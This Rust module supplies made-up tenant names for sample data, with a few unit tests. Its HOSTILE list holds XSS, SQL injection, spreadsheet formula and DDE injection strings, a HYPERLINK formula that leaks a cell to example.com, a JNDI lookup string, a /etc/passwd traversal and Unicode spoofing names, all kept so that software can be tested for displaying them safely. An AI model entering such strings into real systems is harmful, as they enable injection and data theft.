//! Names of the sample's tenants and people: many countries and scripts, and names that try to break a screen.
//!
//! All made up; e-mail addresses use the reserved domain `example`. Not a translation of anything.

mod places;

pub(super) use places::{PLACES, Place};

/// Names that a careless program would run, render, sort or cut wrongly. They must show as plain text everywhere.
pub(super) const HOSTILE: &[&str] = &[
    "<script>alert('tenant')</script>",
    "<img src=x onerror=alert(1)> Media",
    "Robert'); drop table tenants; --",
    "'; drop table usage_events; --",
    "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"Invoice\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3 Accounting",
    // A right-to-left override: what follows shows backwards and must not turn the rest of the row around.
    "Invoice \u{202E}gnp.exe\u{202C} Trading",
    "\u{2066}Isolate\u{2069} \u{200F}and marks\u{200E} Ltd",
    "Zero\u{200B}Width\u{200D}Joiner\u{FEFF} Consulting",
    "Z\u{0351}\u{036B}\u{0343}a\u{0363}\u{0346}\u{033E}l\u{0300}\u{0315}g\u{0321}\u{0358}o\u{0334}\u{0361} Studios",
    "👩‍👩‍👧‍👦 Familiencafé ☕🇦🇹",
    "🦄🚀💸 Unicorn Capital",
    "null",
    "NaN",
    "-1",
    "%s %n {{7*7}} ${jndi:ldap://example.com/a}",
    "../../etc/passwd & Sons",
    "\"Quoted\", comma; semicolon\tTab",
    "Acmе Wоrks",
    "Ａｃｍｅ　Ｆｕｌｌｗｉｄｔｈ",
    "İstanbul ışık ve ISIRGAN ǅ ﬀ",
    "ﷺ ﷽ Calligraphy House",
    // 200 characters.
    "The Oldest Established International Consolidated Federation of Independent Regional Purchasing, Warehousing, \
     Transcription and Bookkeeping Cooperatives of the Greater Northern Lakes and Islands, Ltd.",
];

/// What a session was about, as the free text of a detail.
pub(super) const CLIENT_NOTES: &[&str] = &["weekly session", "first interview", "follow-up", "supervision", "review"];

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    #[test]
    fn every_place_gives_enough_different_names() {
        for place in PLACES {
            let names: BTreeSet<String> = place.names().into_iter().collect();
            assert!(names.len() >= place.tenants, "{} needs {} names", place.country, place.tenants);
            assert!(names.iter().all(|name| name.chars().count() <= 200), "{} has a name above 200", place.country);
        }
    }

    #[test]
    fn the_longest_name_has_exactly_200_characters() {
        let longest = HOSTILE.iter().map(|name| name.chars().count()).max();
        assert_eq!(longest, Some(200), "the limit itself must be tried");
    }

    #[test]
    fn zones_and_currencies_exist() {
        for place in PLACES {
            assert!(place.currency.parse::<billing::money::Currency>().is_ok(), "{}", place.currency);
            for zone in place.zones {
                assert!(zone.parse::<billing::time::Zone>().is_ok(), "{zone} is no zone");
            }
        }
    }
}
